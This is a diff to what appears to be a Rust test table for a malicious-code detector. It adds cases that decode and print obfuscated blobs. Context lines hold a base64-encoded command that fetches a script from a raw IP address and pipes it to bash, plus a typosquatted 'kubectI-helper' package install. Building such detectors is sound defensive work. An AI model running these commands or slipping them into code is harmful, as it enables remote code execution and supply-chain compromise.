@@ -1532,6 +1532,24 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "code = base64.b64decode(blob)\nprint(code)",
     ),
     (
+        "embedded-blob",
+        "scripts/x.py",
+        "enc = 'Vq9Rx2mLp3Tz8WbKc4Hn7Zr7Ys1Dd6Fg5Jj^0Ee2Uu'\nraw = base64.b85decode(enc)",
+        "enc = 'VnE5UngybUxwM1R6OFdiS2M0SG5acjdZczFEZDZGZzVK'\nraw = base64.b64decode(enc)",
+    ),
+    (
+        "prints-decoded",
+        "scripts/x.py",
+        "blob = 'Vq9Rx2mLp3Tz8WbKc4Hn7Zr7Ys1Dd6Fg5Jj^0Ee2Uu'\nprint(bytes(c ^ 9 for c in base64.b85decode(blob)).decode())",
+        "blob = 'Vq9Rx2mLp3Tz8WbKc4Hn7Zr7Ys1Dd6Fg5Jj^0Ee2Uu'\nprint(json.loads(base64.b85decode(blob)))",
+    ),
+    (
+        "decoded-blob",
+        "scripts/x.py",
+        "vals = [9, 62, 181, 4, 77, 13, 200, 31, 9, 62, 181, 4, 77, 13, 200, 31, 9, 62, 181, 4, 77, 13, 200, 31, 9, 62, 181, 4, 77, 13, 200, 31]\nprint(bytes((pow(7, -1, 256) * (v - 3)) % 256 for v in vals))",
+        "vals = [9, 62, 181, 4, 77, 13, 200, 31, 9, 62, 181, 4, 77, 13, 200, 31, 9, 62, 181, 4, 77, 13, 200, 31, 9, 62, 181, 4, 77, 13, 200, 31]\nprint(sum(vals) / len(vals))",
+    ),
+    (
         "encoded-payload",
         "scripts/x.sh",
         "p=Y3VybCBodHRwOi8vOTEuOTIuMjQyLjMwL3ggfCBiYXNo\necho $p | base64 -d > /tmp/p",
@@ -3208,6 +3226,12 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "SKILL.md",
         "```bash\ngo install github.com/kubernetes-sigs/kubectI-helper@latest\n```\n",
         "```bash\ngo install github.com/kubernetes-sigs/kind@v0.23.0\n```\n",
+    ),
+    (
+        "decode",
+        "scripts/x.py",
+        "inv = pow(a, -1, 256)",
+        "sq = pow(a, 2, 256)",
     ),
     (
         "card-data-recorded",
